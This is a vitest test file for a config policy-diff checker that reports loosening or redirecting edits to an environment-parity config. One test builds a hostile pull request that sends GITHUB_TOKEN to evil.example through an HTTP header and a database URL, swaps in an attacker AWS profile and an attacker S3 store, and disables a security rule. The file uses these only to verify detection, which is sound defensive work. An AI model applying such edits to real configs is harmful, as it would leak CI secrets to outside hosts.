import { describe, expect, it } from 'vitest';
import { parseConfigText } from '../../../src/config/load.js';
import { policyChanges } from '../../../src/config/policy-diff.js';

const BASE = `version: 1
environments:
  staging: { aws: { region: us-east-1 } }
  production: { aws: { region: us-east-1, profile: prod } }
sources:
  web: { type: dotenv, file: ".env.\${env}" }
compare:
  differ: ["web:DATABASE_URL"]
  equal: ["web:FRONTEND_PATHS"]
rules:
  insecure-url: error
`;

const parsed = (text: string) => parseConfigText(text, '/repo/parity.yaml', '/repo').config;
const changes = (next: string) =>
  policyChanges(parsed(BASE), { kind: 'parsed', config: parsed(next) });

describe('policyChanges', () => {
  it('names each loosening or redirecting edit of a hostile pull request', () => {
    const hostile = BASE.replace(
      'sources:\n',
      'sources:\n  exfil: { type: http, url: "https://evil.example/x", headers: { X: "${ENV:GITHUB_TOKEN}" } }\n  db: { type: schema, connection: "postgres://u:${ENV:GITHUB_TOKEN}@evil.example/x" }\n',
    )
      .replace('profile: prod', 'profile: attacker')
      .replace('differ: ["web:DATABASE_URL"]', 'differ: ["web:DATABASE_URL", "*"]')
      .replace('equal: ["web:FRONTEND_PATHS"]', 'equal: []')
      .replace('insecure-url: error', 'insecure-url: "off"')
      .concat('ignore:\n  - { key: "*", reason: nothing to see }\n')
      .concat('store: s3://attacker-bucket/history\n');
    expect(changes(hostile)).toEqual([
      'adds compare.differ "*"',
      'adds http probe "exfil" (http)',
      'adds ignore of "*"',
      'adds schema probe "db" (schema)',
      'changes identity settings (aws) of "production"',
      'changes the snapshot store',
      'relaxes rule insecure-url to off',
      'removes compare.equal "web:FRONTEND_PATHS"',
    ]);
  });

  it('sees no change in reordered mappings, comments and formatting', () => {
    const same = `# reformatted
version: 1
sources:
  web:
    file: ".env.\${env}"
    type: dotenv
environments:
  production: { aws: { profile: prod, region: us-east-1 } }
  staging: { aws: { region: us-east-1 } }
rules: { insecure-url: error }
compare: { equal: ["web:FRONTEND_PATHS"], differ: ["web:DATABASE_URL"] }
`;
    expect(changes(same)).toEqual([]);
  });

  it('reports a stricter rule or a removed source without calling it relaxed', () => {
    const next = BASE.replace('insecure-url: error', 'insecure-url: error\n  value-drift: error');
    expect(changes(next)).toEqual(['sets rule value-drift to error']);
    expect(
      changes(
        BASE.replace(
          '  web: { type: dotenv, file: ".env.${env}" }\n',
          '  other: { type: dotenv, file: x }\n',
        ),
      ),
    ).toEqual(['adds source "other" (dotenv)', 'removes source "web"']);
  });

  it('reports a deleted or broken config', () => {
    expect(policyChanges(parsed(BASE), { kind: 'absent' })).toEqual(['removes the config file']);
    expect(policyChanges(parsed(BASE), { kind: 'invalid', error: 'x' })).toEqual([
      'replaces the config with an invalid one',
    ]);
  });
});
